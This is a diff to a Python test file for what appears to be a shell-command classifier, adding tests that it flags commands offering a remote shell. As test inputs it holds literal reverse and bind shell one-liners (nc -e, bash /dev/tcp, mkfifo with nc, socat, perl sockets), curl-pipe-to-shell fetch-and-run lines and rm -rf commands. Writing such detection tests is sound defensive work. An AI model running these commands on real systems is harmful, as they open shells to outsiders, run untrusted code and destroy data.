@@ -355,9 +355,7 @@ def test_other_words_of_such_a_program_are_text(world: World, line: str) -> None
 def test_what_runs_elsewhere_says_so(world: World) -> None:
     assert "deletes /var/www @remote recursive forced" in world.said("ssh web 'rm -rf /var/www'")
     assert world.said("docker exec db rm -rf /data") == ["deletes /data @container recursive forced"]
-    assert world.said("kubectl exec pod -- rm -rf /data", "deletes") == [
-        "deletes /data @container recursive forced"
-    ]
+    assert world.said("kubectl exec pod -- rm -rf /data", "deletes") == ["deletes /data @remote recursive forced"]
     assert world.said("docker exec db rm -rf data", "deletes") == ["deletes data @container recursive forced"]
 
 
@@ -398,8 +396,6 @@ FETCHED = [
     "curl -O http://x/i.sh && bash i.sh",
     "wget http://x/i.sh && sh ./i.sh",
     "curl http://x | node",
-    "nc -e /bin/sh host 80",
-    "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
     "python3 -c \"import urllib.request as u; exec(u.urlopen('http://x').read())\"",
     "curl http://x | base64 -d | sh",
     "curl http://x | xargs -0 bash -c",
@@ -409,6 +405,40 @@ FETCHED = [
 @each("line", FETCHED)
 def test_fetched_text_that_runs_is_said(world: World, line: str) -> None:
     assert len(world.said(line, "executes_fetched")) == 1
+
+
+OFFERED = [
+    "nc -e /bin/sh host 80",
+    "nc -lkp 4444 -c /bin/bash",
+    "ncat --sh-exec 'bash -i' host 80",
+    "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
+    "exec 5<>/dev/tcp/1.2.3.4/80; sh <&5 >&5 2>&5",
+    "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 80 > /tmp/f",
+    "socat TCP:1.2.3.4:80 EXEC:'bash -li',pty,stderr",
+    "ssh -R 2222:localhost:22 host",
+    "ttyd bash",
+    'perl -MIO::Socket -e \'$c=new IO::Socket::INET(PeerAddr,"1.2.3.4:80");exec "/bin/sh -i"\'',
+]
+
+
+@each("line", OFFERED)
+def test_a_shell_that_is_offered_is_said(world: World, line: str) -> None:
+    assert world.said(line, "offers_shell")
+
+
+@each(
+    "line",
+    [
+        "nc -lvp 4444",
+        "bash -i",
+        "socat - TCP:host:80",
+        "nc -c host 443",
+        "echo ls | bash",
+        "ssh -R 80:localhost:3000 host",
+    ],
+)
+def test_a_shell_that_nobody_else_talks_to_is_none_of_that(world: World, line: str) -> None:
+    assert world.said(line, "offers_shell") == []
 
 
 NOT_RUN = [
